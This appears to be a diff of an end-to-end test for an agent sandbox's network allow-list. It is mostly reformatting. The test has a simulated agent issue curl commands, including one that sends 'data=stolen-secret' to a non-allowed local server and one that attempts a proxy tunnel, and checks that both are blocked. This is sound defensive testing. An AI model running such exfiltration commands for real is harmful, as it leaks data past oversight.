@@ -39,23 +39,33 @@ describe('sandbox-os e2e: dwf run with sandbox.network.allowedDomains', function
     repo.cleanup();
   });
 
-  it('an agent\'s curl reaches the allowed domain and nothing else', async function () {
+  it("an agent's curl reaches the allowed domain and nothing else", async function () {
     if (!support.available) this.skip();
     const allowed = await countingServer();
     const other = await countingServer();
     try {
       fs.mkdirSync(path.join(repo.home, '.claude'), { recursive: true });
-      fs.writeFileSync(path.join(repo.home, '.claude', 'settings.json'), JSON.stringify({ sandbox: { network: { allowedDomains: ['localhost'] } } }));
+      fs.writeFileSync(
+        path.join(repo.home, '.claude', 'settings.json'),
+        JSON.stringify({ sandbox: { network: { allowedDomains: ['localhost'] } } }),
+      );
       const commands = [
         `curl -sS -m 10 http://localhost:${allowed.port}/docs`,
         `curl -sS -m 10 -o /dev/null -w 'exfil %{http_code}' "http://127.0.0.1:${other.port}/collect?data=stolen-secret"`,
         `curl -sS -m 10 -o /dev/null -w 'tunnel %{http_code}' --proxytunnel "http://127.0.0.1:${other.port}/t"`,
       ];
-      model.respond(byTurn({ toolUses: commands.map((command) => ({ name: 'Bash', input: { command } })) }, (req) => ({
-        text: toolResults(req.body).map((t) => String(t.content)).join('\n----\n'),
-      })));
+      model.respond(
+        byTurn({ toolUses: commands.map((command) => ({ name: 'Bash', input: { command } })) }, (req) => ({
+          text: toolResults(req.body)
+            .map((t) => String(t.content))
+            .join('\n----\n'),
+        })),
+      );
       repo.write('wf.js', WF);
-      const exit = await runDwf(repo, ['run', 'wf.js', '--json', '--allow', 'Bash'], { server: model, env: { DWF_SANDBOX: 'require', CLAUDE_CONFIG_DIR: path.join(repo.home, '.claude') } });
+      const exit = await runDwf(repo, ['run', 'wf.js', '--json', '--allow', 'Bash'], {
+        server: model,
+        env: { DWF_SANDBOX: 'require', CLAUDE_CONFIG_DIR: path.join(repo.home, '.claude') },
+      });
       assert.equal(exit.code, 0, describeExit(exit));
       const result = String(summaryOf(exit).result);
       assert.match(result, new RegExp(`page /docs\\n`));
@@ -63,7 +73,12 @@ describe('sandbox-os e2e: dwf run with sandbox.network.allowedDomains', function
       assert.match(result, /tunnel 000/, 'curl reports the refused CONNECT as no response');
       assert.deepEqual(allowed.hits, ['/docs']);
       assert.deepEqual(other.hits, [], 'nothing reached the other server');
-      assert.match(exit.stderr, new RegExp(`warning: sandbox network: agent "fetcher" was refused 127\\.0\\.0\\.1:${other.port}: no sandbox\\.network\\.allowedDomains entry matches it`));
+      assert.match(
+        exit.stderr,
+        new RegExp(
+          `warning: sandbox network: agent "fetcher" was refused 127\\.0\\.0\\.1:${other.port}: no sandbox\\.network\\.allowedDomains entry matches it`,
+        ),
+      );
       assert.equal(exit.stderr.match(/was refused 127\.0\.0\.1/g)?.length, 1, 'one warning per refused host');
       assert.doesNotMatch(exit.stderr, /stolen-secret/);
     } finally {
